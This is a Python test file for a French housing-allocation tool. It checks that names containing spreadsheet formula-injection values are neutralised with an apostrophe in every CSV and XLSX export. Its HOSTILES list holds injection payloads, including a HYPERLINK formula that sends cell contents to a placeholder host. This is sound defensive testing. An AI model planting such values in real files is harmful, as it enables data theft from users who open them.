"""Injection de formules (issue 29) : un nom venu des données qui commence par =, +, -, @,
une tabulation ou un retour chariot n'est jamais une formule dans un fichier que l'outil écrit
(CSV ou XLSX) ; il est préfixé d'une apostrophe (fluxcore.neutralisation, règle OWASP)."""

from __future__ import annotations

import csv
import io
import re
import shutil
import zipfile
from datetime import date

import duckdb
import openpyxl
import pandas as pd
import pytest

from fluxcore.db import Database, table_checksum
from fluxcore.neutralisation import (
    DANGEREUX,
    classeur,
    excel_writer,
    neutraliser,
    neutraliser_df,
    retablir,
    sql_neutraliser,
    sql_retablir,
)
from fluxcore.neutralisation import (
    csv as csv_neutre,
)
from fluxcore.parametres import set_parametre

HOSTILES = ['=HYPERLINK("http://x.example/?"&A1,"Cliquez ici")', "=1+1", "+33 1 23", "-2+3",
            "@SUM(A1)", "\t=1", "\r=1"]
NEUTRES = ["'" + h for h in HOSTILES]
SOMME = re.compile(r"=SUM\([A-Z]+[0-9]+:[A-Z]+[0-9]+\)")     # the product's own totals
NOMBRE = re.compile(r"-[0-9][0-9\s\u202f]*([.,][0-9]+)?([eE][-+]?[0-9]+)?")
BILAN = (2025, date(2026, 2, 10))


# ---------------------------------------------------------------- the rule itself

@pytest.mark.parametrize("valeur", [*HOSTILES, "-", "'=1", "''+2", "-12"])
def test_dangerous_texts_get_one_apostrophe_and_come_back(valeur):
    assert neutraliser(valeur) == "'" + valeur
    assert retablir(neutraliser(valeur)) == valeur


@pytest.mark.parametrize("valeur", ["Préfet", "a=b", "'abc", "'", "", " =1", "–x", "−3",
                                    None, -12, -1.5, 0, True, date(2026, 1, 1)])
def test_other_values_are_left_alone(valeur):
    assert neutraliser(valeur) is valeur or neutraliser(valeur) == valeur
    assert retablir(valeur) == valeur


def test_sql_and_python_say_the_same():
    cur = duckdb.connect()
    for v in [*HOSTILES, "-", "'=1", "''+2", "-12", "ok", "'x", "", " =1"]:
        n = cur.execute(f"select {sql_neutraliser('$v')}", {"v": v}).fetchone()[0]
        assert n == neutraliser(v), repr(v)
        back = cur.execute(f"select {sql_retablir('$v')}", {"v": n}).fetchone()[0]
        assert back == v, repr(v)


def test_frames_keep_their_numbers():
    df = pd.DataFrame({"nom": ["=1+1", None, "ok", "-12"], "n": [-1, 2, 3, -4],
                       "x": [-1.5, None, 2.0, 0.0], "=col": pd.Categorical(["@a", "b", "b", "c"])})
    out = neutraliser_df(df)
    assert out["nom"].tolist()[::2] == ["'=1+1", "ok"] and out["nom"].iloc[3] == "'-12"
    assert pd.isna(out["nom"].iloc[1])
    assert out["n"].tolist() == [-1, 2, 3, -4] and out["n"].dtype == df["n"].dtype
    assert out["x"].dtype == df["x"].dtype
    assert list(out.columns) == ["nom", "n", "x", "'=col"]
    assert out["'=col"].tolist() == ["'@a", "b", "b", "c"]
    assert df["nom"].iloc[0] == "=1+1"               # the caller's frame is not changed


def test_a_carriage_return_never_cuts_a_csv_line():
    df = pd.DataFrame({"nom": ["\r=1", "ok"], "n": [-1, 2]})
    texte = csv_neutre(df, index=False, sep=";")
    lignes = list(csv.reader(io.StringIO(texte, newline=""), delimiter=";"))
    assert lignes == [["nom", "n"], ["'\r=1", "-1"], ["ok", "2"]]
    assert csv_neutre(df.iloc[1:], index=False, sep=";") == "nom;n\nok;2\n"


def test_every_way_of_writing_a_workbook_cell():
    buf = io.BytesIO()
    wb = classeur(buf, {"in_memory": True})
    ws = wb.add_worksheet("Feuille")
    ws.write(0, 0, "=1+1")
    ws.write_string(0, 1, "@SUM(A1)")
    ws.write_row(1, 0, ["+33 1 23", -2, "-2+3"])
    ws.write_column(2, 0, ["\t=1", "\r=1"])
    ws.merge_range(5, 0, 5, 2, HOSTILES[0])
    ws.write(6, 0, "http://x.example")
    ws.write_formula(7, 0, "=SUM(B2:B2)", None, -2)
    wb.close()
    sheet = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["Feuille"]
    assert [sheet.cell(1, 1).value, sheet.cell(1, 2).value, sheet.cell(2, 1).value,
            sheet.cell(2, 2).value, sheet.cell(2, 3).value, sheet.cell(3, 1).value,
            _cr(sheet.cell(4, 1).value), sheet.cell(6, 1).value] == [
        "'=1+1", "'@SUM(A1)", "'+33 1 23", -2, "'-2+3", "'\t=1", "'\r=1", NEUTRES[0]]
    assert sheet.cell(7, 1).hyperlink is None and sheet.cell(7, 1).value == "http://x.example"
    assert sheet.cell(8, 1).data_type == "f"        # a formula the code writes stays one
    _xlsx_sain(buf.getvalue(), "classeur")
    buf = io.BytesIO()
    with excel_writer(buf) as xw:
        pd.DataFrame({"=a": ["=1+1", "x"], "n": [-1, 2]}).to_excel(xw, index=False)
    rows = list(openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active.values)
    assert rows == [("'=a", "n"), ("'=1+1", -1), ("x", 2)]


# ---------------------------------------------------------------- read-back helpers

def _cr(texte: str) -> str:
    """openpyxl leaves the XML escape of a carriage return as it is."""
    return texte.replace("_x000D_", "\r")


def _xlsx_sain(data: bytes, nom: str) -> set[str]:
    """Every text of the workbook; fails on a formula (other than a SUM total) or a text
    that a spreadsheet would read as one."""
    textes = set()
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    assert SOMME.fullmatch(str(c.value)), (nom, ws.title, c.coordinate, c.value)
                elif isinstance(c.value, str):
                    v = _cr(c.value)
                    assert not v.startswith(DANGEREUX), (nom, ws.title, c.coordinate, v)
                    textes.add(v)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode()
                for f in re.findall(r"<f>(.*?)</f>", xml):
                    assert SOMME.fullmatch("=" + f), (nom, name, f)
                assert "<hyperlink" not in xml, (nom, name)
    return textes


def _csv_sain(texte: str, nom: str, sep: str = ";") -> set[str]:
    """Every field of the CSV; fails on a text field starting like a formula (a negative
    number is a number and stays as it is)."""
    champs = set()
    for ligne in csv.reader(io.StringIO(texte.lstrip("\ufeff"), newline=""), delimiter=sep):
        for v in ligne:
            if v.startswith(DANGEREUX):
                assert NOMBRE.fullmatch(v), (nom, v)
            champs.add(v)
    return champs


# ---------------------------------------------------------------- a hostile database

@pytest.fixture(scope="module")
def hostile_path(demo_path, tmp_path_factory):
    """The petit demo with hostile names for réservataires, résidences, communes, EPCI,
    départements and the bailleur, and a hostile actor in the journal."""
    path = tmp_path_factory.mktemp("hostile") / "hostile.duckdb"
    shutil.copy(demo_path, path)
    db = Database(path)
    try:
        for table, key in (("reservataire", "reservataire_id"), ("residence", "residence_id")):
            ids = db.df(f"select {key} from {table} order by {key}")[key].tolist()
            with db.transaction() as cur:
                cur.executemany(f"update {table} set nom = ? where {key} = ?",
                                [[HOSTILES[i % len(HOSTILES)], x] for i, x in enumerate(ids)])
        for table, key in (("ref_epci", "epci_siren"), ("ref_commune", "code_insee"),
                           ("ref_departement", "departement")):
            with db.transaction() as cur:
                cur.execute(f"update {table} set nom = (?::varchar[])[1 + (hash({key}) % "
                            f"{len(HOSTILES)})::integer]", [HOSTILES])
        set_parametre(db, "bailleur_nom", HOSTILES[0], "@zoe")
    finally:
        db.close()
    return path


@pytest.fixture(scope="module")
def hostile_db(hostile_path):
    db = Database(hostile_path, read_only=True)
    yield db
    db.close()


@pytest.mark.lent
def test_bilan_files_epci_reservataires_recap_and_statistics(hostile_db):
    from fluxcore.bilan import calculer_bilan
    from fluxcore.bilan.archive import generer

    paquet = generer(hostile_db, calculer_bilan(hostile_db, *BILAN), pdf=False)
    par_dossier: dict[str, set[str]] = {}
    for nom, data in paquet.fichiers.items():
        dossier = nom.split("/")[0] if "/" in nom else "racine"
        if nom.endswith(".xlsx"):
            par_dossier.setdefault(dossier, set()).update(_xlsx_sain(data, nom))
        else:
            assert nom.endswith(".csv"), nom
            _csv_sain(data.decode("utf-8"), nom)
    assert {"epci", "reservataires", "racine"} <= set(par_dossier)
    for dossier in ("epci", "reservataires", "racine"):       # the names are there, quoted
        assert set(NEUTRES) & par_dossier[dossier], dossier
    assert NEUTRES[0] in par_dossier["epci"] and "'=1+1" in par_dossier["racine"]
    with zipfile.ZipFile(io.BytesIO(paquet.zip())) as z:
        for name in z.namelist():
            if name.endswith(".xlsx"):
                _xlsx_sain(z.read(name), name)


def test_sne_workbooks(hostile_db):
    from fluxcore import sne
    from fluxcore.perimetre import Perimetre

    r = sne.rapprocher(hostile_db, Perimetre(BILAN[0]))
    textes = _xlsx_sain(sne.classeur_xlsx(r), "complet")
    assert set(NEUTRES) & textes
    cle = r.par_reservataire["cle"].iloc[0]
    _xlsx_sain(sne.classeur_xlsx(r, cle), cle)
    with zipfile.ZipFile(io.BytesIO(sne.classeurs_zip(r))) as z:
        for name in z.namelist():
            _xlsx_sain(z.read(name), name)
    _csv_sain(csv_neutre(sne.lignes_export(r), index=False, sep=";"), "lignes")


def test_journal_exports(hostile_db):
    from fluxcore.journal import journal, journal_csv, journal_xlsx

    df = journal(hostile_db)
    champs = _csv_sain(journal_csv(df).decode("utf-8-sig"), "journal.csv")
    assert "'@zoe" in champs
    assert "'@zoe" in _xlsx_sain(journal_xlsx(df), "journal.xlsx")


def test_simulation_comparison_workbook():
    from fluxcore.simulation import LigneReservataire, Scenario, entrees_simples, simuler
    from fluxcore.simulation.comparaison import comparer
    from fluxcore.simulation.export import export_xlsx

    e = entrees_simples([2027, 2028, 2029], 1000, 8.0, premieres=20,
                        stock={"PREF": 200, "AL": 300})
    lignes = [LigneReservataire("PREF", HOSTILES[0], "PREFET", taux_pct=25.0),
              LigneReservataire("AL", "@SUM(A1)", "ACTION_LOGEMENT", taux_pct=10.0)]
    a = simuler(e, Scenario("00", 2027, 2029, nom="=1+1", reservataires=lignes))
    b = simuler(e, Scenario("00", 2027, 2029, nom="-2+3", reservataires=lignes))
    textes = _xlsx_sain(export_xlsx(comparer([a, b], [None, None]), [a, b], "+33 1 23"),
                        "comparaison")
    assert {"'=1+1", "'-2+3", "'+33 1 23", NEUTRES[0], "'@SUM(A1)"} <= textes


def test_cotation_csv(hostile_db):
    from fluxcore.cotation.rapport import _csv, sortie

    _csv_sain(sortie(hostile_db, date(2026, 11, 23), "csv"), "coter")
    assert _csv(pd.DataFrame({"demande_id": ["=1+1"], "score": [-3.5]})).splitlines()[1] == (
        "'=1+1;-3,5")


def test_import_templates(hostile_db):
    from fluxcore.exports import template_csv_zip, template_xlsx

    with zipfile.ZipFile(io.BytesIO(template_csv_zip(hostile_db))) as z:
        for name in z.namelist():
            assert z.read(name).startswith(b"\xef\xbb\xbf"), name   # Excel: UTF-8
            _csv_sain(z.read(name).decode("utf-8"), name)
    _xlsx_sain(template_xlsx(hostile_db), "modele")


def test_command_line_csv(hostile_path, tmp_path, capsys):
    from fluxcore.__main__ import main

    commun = ["--db", str(hostile_path), "--date", "2026-11-23", "--format", "csv"]
    for args, attendu in ((["jauges", "--annee", "2026", *commun], True),
                          (["fragilite", *commun], True),
                          (["objectifs", "--annee", "2026", *commun], False)):
        assert main(args) == 0, args
        champs = _csv_sain(capsys.readouterr().out, args[0])
        assert not attendu or set(NEUTRES) & champs, args[0]
    sortie = tmp_path / "sne.csv"
    assert main(["sne", "rapprocher", "--db", str(hostile_path), "--annee", "2025",
                 "--format", "csv", "--sortie", str(sortie)]) == 0
    _csv_sain(sortie.read_text(encoding="utf-8-sig"), "sne.csv")
    # the import report quotes the refused value
    bad = tmp_path / "logement.csv"
    bad.write_text("logement_id;residence_id;typologie;financement;surface_m2\n"
                   "X1;RES-Z;T3;PLUS;=1+1\n", encoding="utf-8")
    rapport = tmp_path / "rapport.csv"
    main(["import", "--db", str(tmp_path / "vide.duckdb"), str(bad), "--controle",
          "--rapport", str(rapport)])
    capsys.readouterr()
    assert "'=1+1" in _csv_sain(rapport.read_text(encoding="utf-8"), "rapport")


# ---------------------------------------------------------------- the canonical export

def test_canonical_export_is_neutralised(hostile_db, tmp_path):
    from fluxcore.exports import export_tables

    export_tables(hostile_db, tmp_path)
    for path in sorted(tmp_path.glob("*.csv")):
        _csv_sain(path.read_text(encoding="utf-8"), path.name)
    noms = pd.read_csv(tmp_path / "reservataire.csv", sep=";", dtype=str,
                       keep_default_na=False, encoding="utf-8-sig")
    base = hostile_db.df("select reservataire_id, nom from reservataire "
                         "order by reservataire_id")
    assert noms["nom"].tolist() == [neutraliser(v) for v in base["nom"]]
    assert [retablir(v) for v in noms["nom"]] == base["nom"].tolist()


def test_export_then_import_with_the_apostrophe_taken_off(hostile_db, empty_db, tmp_path,
                                                           monkeypatch):
    """What the importer is to do (fluxcore/imports/parsing.py, `text`): read a text cell
    through `sql_retablir`; then export → import gives the same tables, hostile names
    included. (The patch is harmless once the importer does it itself.)"""
    from fluxcore.exports import export_tables
    from fluxcore.imports import import_paths, parsing
    from fluxcore.imports.spec import SPECS

    def text(col: str) -> str:
        return f"nullif({sql_retablir(f'trim({col})')}, '')"

    monkeypatch.setattr(parsing, "text", text)
    monkeypatch.setitem(parsing.BY_TYPE, "VARCHAR", text)
    export_tables(hostile_db, tmp_path / "export")
    result = import_paths(empty_db, sorted((tmp_path / "export").glob("*.csv")))
    assert result.ok, result.problems.text()
    for table in SPECS:
        if table != "parametre":
            assert table_checksum(empty_db, table) == table_checksum(hostile_db, table), table
    same = "select cle, valeur from parametre order by cle"
    assert empty_db.df(same).equals(hostile_db.df(same))
    assert empty_db.scalar("select count(*) from reservataire where nom = ?", ["=1+1"]) > 0
